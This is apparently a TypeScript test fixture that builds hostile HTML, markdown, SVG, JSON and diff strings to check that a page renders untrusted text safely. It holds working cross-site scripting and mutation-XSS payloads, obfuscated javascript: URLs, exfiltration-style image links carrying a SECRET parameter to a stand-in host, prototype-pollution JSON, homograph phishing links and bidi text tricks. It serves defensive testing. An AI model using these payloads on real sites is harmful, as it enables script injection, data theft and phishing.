/**
 * Texts that try to become something else in a page. `at` is a place that no page of Detent may ask anything of; a script that runs
 * leaves its name in `window.ran`.
 */
export function hostileTexts(at: string) {
  const run = (name: string) => `(window.ran=window.ran||[]).push('${name}')`;
  const html = [
    `<script>${run('script')}</script>`,
    `<script src="${at}/script.js"></script>`,
    `<img src=x onerror="${run('img')}">`,
    `<img src="${at}/img.png" srcset="${at}/srcset.png 2x">`,
    `<svg onload="${run('svg')}"><use href="${at}/use.svg#a"/><image href="${at}/image.png"/><set attributeName="href" to="javascript:${run('set')}"/></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run('mxss')}&gt;">`,
    `<noscript><p title="</noscript><img src=x onerror=${run('noscript')}>">`,
    `<iframe src="javascript:${run('iframe')}"></iframe><iframe srcdoc="<script>parent.${run('srcdoc')}</script>"></iframe><iframe src="${at}/frame"></iframe>`,
    `<object data="${at}/object"></object><embed src="${at}/embed"><applet code="${at}"></applet>`,
    `<form action="${at}/form"><button id=decide name=approve autofocus onfocus="${run('focus')}">Approve</button></form>`,
    `<base href="${at}/"><meta http-equiv="refresh" content="0;url=${at}/refresh"><meta http-equiv="content-security-policy" content="">`,
    ...['dns-prefetch', 'preconnect', 'prefetch', 'prerender', 'stylesheet', 'modulepreload', 'icon'].map(
      (rel) => `<link rel="${rel}" href="${at}/${rel}">`,
    ),
    `<style>@import url("${at}/import.css");*{background:url("${at}/css.png")!important;display:none}</style>`,
    `<p style="position:fixed;inset:0;background:url('${at}/style.png')">over everything</p>`,
    `<a href="${at}/ping" ping="${at}/pinged" onclick="${run('click')}">click</a><a href="javascript:${run('href')}">click</a>`,
    `<video poster="${at}/poster.png" src="${at}/video"></video><audio src="${at}/audio" autoplay></audio><input type=image src="${at}/input.png">`,
    `<details open ontoggle="${run('toggle')}"><summary>s</summary></details><marquee onstart="${run('marquee')}">m</marquee>`,
    `<template><script>${run('template')}</script></template><xmp><img src=x onerror=${run('xmp')}></xmp>`,
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${at}/speculated"]}]}</script>`,
    `</p></main></div></body></html><h1>Logged out</h1><!-- --><![CDATA[<script>${run('cdata')}</script>]]>`,
  ];
  const schemes = [
    `javascript:${run('md')}`,
    `JaVaScRiPt:${run('case')}`,
    `&#106;avascript:${run('entity')}`,
    `java&Tab;script:${run('tab')}`,
    `\u0001javascript:${run('control')}`,
    `data:text/html,<script>${run('data')}</script>`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run('dataSvg')}'/>`,
    `vbscript:msgbox(1)`,
    `file:///etc/passwd`,
    `blob:${at}/1`,
    `//${at.replace(/^\w+:\/\//, '')}/relative`,
  ];
  const markdown = [
    ...html,
    ...schemes.map((url, i) => `[link ${i}](<${url}>) ![image ${i}](<${url}>) <${url}> [by name][r${i}]`),
    ...schemes.map((url, i) => `[r${i}]: <${url}> "title"`),
    `![seen](${at}/md.png?q=SECRET) ![by name][shot] [![inner](${at}/inner.png)](${at}/outer)`,
    `[shot]: ${at}/reference.png`,
    `[https://bank.example/login](${at}/phish) [www.bank.example.](${at}/dot) [bank\u200b.example](${at}/zero) [ｂank．example](${at}/wide) <https://bank.example@evil.example/x> https://bank.example@evil.example/y [xn--80ak6aa92e.com](https://аррӏе.com/)`,
    `| a<img src=x onerror=${run('cell')}> | b |\n| --- | --- |\n| ${'w'.repeat(300)} | [x](javascript:${run('cellLink')}) |`,
    `\`\`\`html"><img src=x onerror=${run('lang')}>\n<script>${run('fence')}</script>\n${'c'.repeat(600)}\n\`\`\``,
    `# ${'W'.repeat(400)}`,
    `${'> '.repeat(12)}${'deep'.repeat(60)}`,
    `{{constructor.constructor("window.ran=[1]")()}} $\{window.ran=[1]} #{7*7} %0a<%= 7*7 %>`,
  ].join('\n\n');
  /** Characters that hide, or that turn a line around. */
  const turned =
    'pay \u202e001 ot\u202c ann\u200b\u2066x\u2069\u00ad\u2028y\u0007\u001b[31mred\u001b[0m\r\u{e0041}';
  /** As a name of a file, a session, a job, a skill: one line without control characters. */
  const name = `a"><img src=x onerror=${run('name').replaceAll('/', '')}>`;
  const long = 'unbroken'.repeat(60);
  const json = {
    html: html.join('\n'),
    __proto__: undefined,
    ['<img src=x onerror=alert(1)>']: html[2],
    turned,
    long,
    deep: JSON.parse(`${'{"constructor":['.repeat(60)}${'1'}${']}'.repeat(60)}`) as unknown,
  };
  const jsonText = JSON.stringify(json).replace(
    /^\{/,
    `{"__proto__":{"polluted":"<img src=x>"},"constructor":{"prototype":{"polluted":1}},`,
  );
  const diff = `--- a/${name}\n+++ b/${name}\n@@ -1,2 +1,3 @@\n ${html[2]}\n-${turned}\n+${html[0]}\n+${long}\n`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${run('svgFile')}"><script>${run('svgScript')}</script><image href="${at}/svg.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${at}/frame"/></foreignObject></svg>`;
  const page = `<!doctype html><script>${run('file')};fetch('${at}/file')</script><h1>a file</h1>`;
  return { html, markdown, turned, name, long, jsonText, diff, svg, page };
}
